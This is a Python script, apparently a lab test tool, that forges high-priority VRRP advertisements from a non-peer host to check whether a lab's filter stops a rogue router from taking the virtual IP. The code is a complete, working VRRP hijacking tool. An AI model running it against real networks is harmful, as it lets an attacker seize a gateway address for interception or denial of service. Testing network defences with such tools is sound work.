"""A rogue VRRP speaker, run as root *on an on-subnet lab host that is not a peer* (standard
library only): sends adverts for the lab's virtual router id at a high priority, as a
misconfigured or hostile host would, for --seconds. It only sends: no address is added and
nothing is listened to, so a lab whose filter failed would show it in the peers' counters and
in the VIP's holder, not on this host.

    python3 rogue.py --version 2 --vrid 100 --priority 254 --interval 1 --source 192.168.69.106 \\
        --to 224.0.0.18 --address 192.168.69.250 --seconds 3
"""

import argparse
import ipaddress
import socket
import struct
import sys
import time

IPPROTO_VRRP = 112


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(version: int, vrid: int, priority: int, interval: float, addresses: list, src, dst) -> bytes:
    """An advertisement: RFC 3768 (v2, simple-text authentication) or RFC 5798 (v3)."""
    packed = b"".join(a.packed for a in addresses)
    if version == 2:
        head = struct.pack("!BBBBBBH", 0x21, vrid, priority, len(addresses), 1, max(1, round(interval)), 0)
        body = head + packed + b"rogue\0\0\0"
        return body[:6] + struct.pack("!H", checksum(body)) + body[8:]
    centis = round(interval * 100) & 0x0FFF
    head = struct.pack("!BBBBHH", 0x31, vrid, priority, len(addresses), centis, 0)
    body = head + packed
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, IPPROTO_VRRP, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--version", type=int, choices=(2, 3), required=True)
    ap.add_argument("--vrid", type=int, required=True)
    ap.add_argument("--priority", type=int, default=254)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--source", required=True)
    ap.add_argument("--to", action="append", required=True, help="224.0.0.18, or each peer (unicast)")
    ap.add_argument("--address", action="append", required=True, help="the virtual address advertised")
    ap.add_argument("--seconds", type=float, default=3.0)
    args = ap.parse_args()
    src = ipaddress.IPv4Address(args.source)
    addresses = [ipaddress.IPv4Address(a) for a in args.address]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, IPPROTO_VRRP)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)  # VRRP receivers drop any other TTL
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, src.packed)
    s.bind((str(src), 0))
    sent = 0
    deadline = time.monotonic() + min(args.seconds, 30.0)  # bounded, whatever the caller asks
    while time.monotonic() < deadline:
        for to in args.to:
            dst = ipaddress.IPv4Address(to)
            s.sendto(advert(args.version, args.vrid, args.priority, args.interval, addresses, src, dst), (to, 0))
            sent += 1
        time.sleep(args.interval)
    print(f"sent {sent} adverts", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
